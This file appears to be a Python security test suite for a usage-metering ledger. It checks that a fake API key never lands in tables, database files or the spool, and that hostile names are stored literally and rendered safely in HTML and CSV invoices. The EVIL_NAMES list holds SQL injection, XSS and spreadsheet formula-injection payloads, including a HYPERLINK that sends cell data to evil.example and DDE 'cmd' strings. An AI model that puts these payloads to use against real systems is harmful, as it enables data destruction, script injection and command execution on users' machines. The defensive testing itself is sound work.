"""Suite 5, secrets and hostile names: no API key fragment in any table, database file or
spool; names full of SQL, HTML and formula characters stored literally and rendered safely."""

from __future__ import annotations

import os
import re
import time
from contextlib import suppress
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from sqlalchemy import inspect, text

from ledger.clock import ManualClock
from ledger.core import Ledger
from ledger.testing.simulator import Behavior, RunAPISimulator

from .calls import call_sync, request_body
from .common import FAKE_API_KEY, PATHS, Figures, Shape, backend_of
from .oracle import Seen, audit, event_rows


def database_text(book: Ledger) -> str:
    """Every row of every table of the ledger's database, as text (for secret hunting)."""
    out: list[str] = []
    with book.engine.connect() as conn:
        for name in inspect(conn).get_table_names():
            out.append(f"-- {name}")
            for row in conn.execute(text(f'SELECT * FROM "{name}"')).all():
                out.append(repr(tuple(row)))
                out.extend(v.decode("utf-8", "replace") for v in row if isinstance(v, bytes))
    return "\n".join(out)


def file_text(*paths: str | os.PathLike[str]) -> str:
    """The bytes of files (database, WAL, spool...), those that exist, decoded leniently."""
    out = []
    for path in paths:
        with suppress(FileNotFoundError):
            out.append(Path(path).read_bytes().decode("latin-1"))
    return "\n".join(out)


#: Project and model names full of SQL, HTML and spreadsheet-formula characters.
EVIL_NAMES = (
    "acme'; DROP TABLE events; --",
    "Robert'); DELETE FROM totals WHERE ('1'='1",
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>&amp;",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "％ ＝1+1 full-width",
    "＝SUM(A1)",
    "naïve «ünïcödé» 中文 🙂",
    "back\\slash \"quote\" 'single' `tick` ${x} %s %n {0}",
    "line\nbreak",
    "comma, separated; semi",
)


def _secret_fragments(key: str) -> list[str]:
    return [key, key[3:], key[-16:]]


def security_suite(url: str, workdir: Path, *, sqlite_path: str | None = None) -> Figures:
    """Metered calls (ok, streamed, failed with the key echoed by the server, refused,
    spooled) with an API key in the headers; names full of SQL, HTML and formula characters.
    Counts secret occurrences in every table, the database files and the spool, and checks the
    names come back literally and render safely in HTML and CSV invoices."""
    import io

    from ledger.render import csv as render_csv
    from ledger.render import html as render_html

    figures = Figures("security", backend_of(url))
    clock = ManualClock(datetime(2026, 11, 10, 12, tzinfo=UTC))
    spool = workdir / "security.spool"
    start = time.perf_counter()
    with Ledger(url, clock=clock, spool_path=spool) as book, RunAPISimulator() as sim:
        auth = {"authorization": f"Bearer {FAKE_API_KEY}", "x-api-key": FAKE_API_KEY,
                "api-key": FAKE_API_KEY}
        seen: list[Seen] = []
        for name in EVIL_NAMES:
            book.set_price(name, Decimal("0.020"))
        for i, project in enumerate(EVIL_NAMES):
            model = EVIL_NAMES[(i + 3) % len(EVIL_NAMES)]
            shape: Shape = "openai" if i % 2 == 0 else "anthropic"
            with book.httpx_client(project) as client:
                for stream in (False, True):
                    seen.append(call_sync(client, sim.base_url + PATHS[shape], shape,
                                          request_body(shape, model=model, stream=stream),
                                          headers=auth, tag=f"{project}|{model}"))
        with book.httpx2_client("secrets") as client2:
            url_ = sim.base_url + PATHS["openai"]
            body = request_body("openai")
            sim.enqueue(Behavior(status=401, error_message=f"Incorrect API key provided: {FAKE_API_KEY}"),
                        Behavior(error_event=True, error_message=f"bad key {FAKE_API_KEY}"))
            seen.append(call_sync(client2, url_, "openai", body, headers=auth, tag="401-echo"))
            seen.append(call_sync(client2, url_, "openai", request_body("openai", stream=True),
                                  headers=auth, tag="error-event-echo"))
            seen.append(call_sync(client2, url_ + f"?api_key={FAKE_API_KEY}", "openai", body,
                                  headers=auth, tag="key-in-query"))
            book.set_budget("secrets", Decimal("0.0001"))
            seen.append(call_sync(client2, url_, "openai", body, headers=auth, tag="refused"))
            book.set_budget("secrets", Decimal("1000"))
            # The database fails while settling: the outcome goes to the spool.
            real_settle = book.store.settle

            def failing(*args: Any, **kwargs: Any) -> int:
                from ledger.errors import LedgerUnavailable

                raise LedgerUnavailable("ledger database unavailable (test)")

            book.store.settle = failing  # type: ignore[method-assign]
            try:
                seen.append(call_sync(client2, url_, "openai", body, headers=auth, tag="spooled"))
                sim.enqueue(Behavior(status=401, error_message=f"no such key {FAKE_API_KEY}"))
                seen.append(call_sync(client2, url_, "openai", body, headers=auth,
                                      tag="spooled-401-echo"))
            finally:
                book.store.settle = real_settle  # type: ignore[method-assign]
        spool_text = file_text(spool, str(spool) + ".rejected")
        figures.extra["spool_entries"] = len(book.spool.entries())
        book.replay()
        figures.calls = len(seen)
        figures.admitted = sum(s.sent for s in seen)
        figures.refused = sum(not s.sent for s in seen)
        figures.failed = sum(s.kind() == "failed" for s in seen)
        # Secrets: every table, the raw database files, the spool.
        stored = database_text(book)
        raw = file_text(*(f"{sqlite_path}{suffix}" for suffix in ("", "-wal", "-shm"))) \
            if sqlite_path else ""
        found = 0
        for fragment in _secret_fragments(FAKE_API_KEY):
            for where, blob in (("tables", stored), ("database files", raw), ("spool", spool_text)):
                if fragment in blob:
                    found += 1
                    figures.problem(f"API key fragment {fragment!r} found in the {where}")
        figures.extra["secret_occurrences"] = found
        # Names: stored literally, rendered safely.
        rows = event_rows(book)
        projects = {r["project"] for r in rows}
        models = {r["model"] for r in rows}
        for name in EVIL_NAMES:
            if name not in projects or name not in models:
                figures.problem(f"name not stored literally: {name!r}")
        month = "2026-11"
        rendered = 0
        for name in EVIL_NAMES:
            inv = book.invoice(name, month, draft=True)
            if inv.project != name or not any(line.model == EVIL_NAMES[
                    (EVIL_NAMES.index(name) + 3) % len(EVIL_NAMES)] for line in inv.lines):
                figures.problem(f"invoice of {name!r} lost its names")
            figures.problems.extend(html_problems(render_html.invoice(inv), name))
            out = io.StringIO()
            render_csv.invoices(out, [inv])
            figures.problems.extend(csv_problems(out.getvalue(), name))
            rendered += 1
        figures.extra["names_tried"] = len(EVIL_NAMES)
        figures.extra["invoices_rendered"] = rendered
        audit(book, figures)
    figures.seconds = time.perf_counter() - start
    return figures


FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def html_problems(page: str, name: str) -> list[str]:
    """A rendered HTML page must show ``name`` as text: the only tags and attributes are the
    renderer's own, and the name appears (unescaped) in the page's text."""
    from html.parser import HTMLParser

    class Reader(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.tags: set[str] = set()
            self.attrs: set[str] = set()
            self.text: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.tags.add(tag)
            self.attrs.update(k for k, _ in attrs)

        def handle_data(self, data: str) -> None:
            self.text.append(data)

    reader = Reader()
    reader.feed(page)
    problems = []
    if reader.tags & {"script", "img", "iframe", "object", "embed"}:
        problems.append(f"HTML for {name!r} has injected tags: {sorted(reader.tags)}")
    if any(a.startswith("on") for a in reader.attrs):
        problems.append(f"HTML for {name!r} has event-handler attributes")
    flat = " ".join("".join(reader.text).split())
    if " ".join(name.split()) not in flat:
        problems.append(f"HTML for {name!r} does not show the name as text")
    return problems


def csv_problems(document: str, name: str) -> list[str]:
    """A CSV invoice must hold ``name`` exactly (with a leading ``'`` if a spreadsheet would
    run it), and no cell a spreadsheet would run as a formula."""
    import csv
    import io

    rows = list(csv.reader(io.StringIO(document, newline="")))
    cells = [c for row in rows[1:] for c in row]
    problems = []
    want = "'" + name if _could_run(name) else name
    if want not in cells:
        problems.append(f"CSV for {name!r} does not hold {want!r}")
    for c in cells:
        if not c.startswith("'") and _could_run(c):
            problems.append(f"CSV for {name!r} has a formula cell {c!r}")
    return problems


def _could_run(cell: str) -> bool:
    """Would a spreadsheet run ``cell``, or a piece of it once split again on ``,`` ``;`` tab
    ``|`` CR LF (issue 9 item 19)? A plain decimal number is a value."""
    if re.fullmatch(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)", cell):
        return False
    return cell.startswith(FORMULA_START) or any(
        piece.lstrip().lstrip("\"'").lstrip().startswith(FORMULA_START)
        for piece in re.split(r"[,;\t|\r\n]", cell)[1:])
